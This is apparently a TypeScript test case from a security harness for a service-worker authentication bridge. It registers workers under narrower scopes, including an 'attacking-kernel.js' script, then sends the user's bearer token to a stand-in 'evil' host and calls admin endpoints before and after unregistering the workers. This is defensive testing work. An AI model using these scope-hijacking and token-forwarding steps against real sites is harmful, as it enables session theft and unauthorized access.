import type { Attack } from './harness/attack.js';

export const attack: Attack = {
  title:
    "registrations: the site's files as workers of narrower scopes, and unregistering the worker",
  from: 'page',
  differs: true,
  last: true,
  script: async ({ site, platform, evil, handles }, kit) => {
    const seen: unknown[] = [];
    const container = navigator.serviceWorker;
    const worker = await (await fetch(`${site}service-worker.js`)).text();
    const [second = ''] = /auth-bridge-scripts\/[\w.]+\.js/.exec(worker) ?? [];
    for (const script of [
      'service-worker.js',
      'service-worker.js?keeper',
      second,
      'attacking-kernel.js',
    ]) {
      for (const scope of [
        'auth-bridge/',
        'auth-bridge/keeper/',
        'service-worker.js?keeper',
        'lab/',
      ]) {
        const registered = container.register(site + script, { scope: site + scope }).then(
          (registration) => registration.scope,
          (error: unknown) => String(error),
        );
        seen.push({ name: `${script} for ${scope}`, outcome: await kit.within(1_000, registered) });
      }
    }
    const calls = async (when: string) => {
      const headers = { authorization: `Bearer ${handles.own}` };
      seen.push(await kit.call(when, `${site}auth-bridge/keeper/state`));
      seen.push(await kit.call(when, `${site}auth-bridge/keeper/challenge`));
      seen.push(await kit.call(when, `${platform}api/v1/admin/x`, { headers }));
      seen.push(await kit.call(when, `${evil}x`, { headers }));
      seen.push(await kit.call(when, `${platform}api/v1/x`, { method: 'PUT' }));
    };
    const channel = new BroadcastChannel(`auth-bridge:${site}`);
    for (const word of ['need', 'changed']) channel.postMessage(word);
    await calls('with others');
    for (const registration of await container.getRegistrations()) {
      if (registration.scope !== site) await kit.within(2_000, registration.unregister());
    }
    await calls('without others');
    const own = await container.getRegistration(site);
    if (own) await kit.within(2_000, own.unregister());
    channel.postMessage('need');
    await calls('unregistered');
    channel.close();
    return seen;
  },
  fromWeak: ['with others called what the rules forbid (GET)'],
};
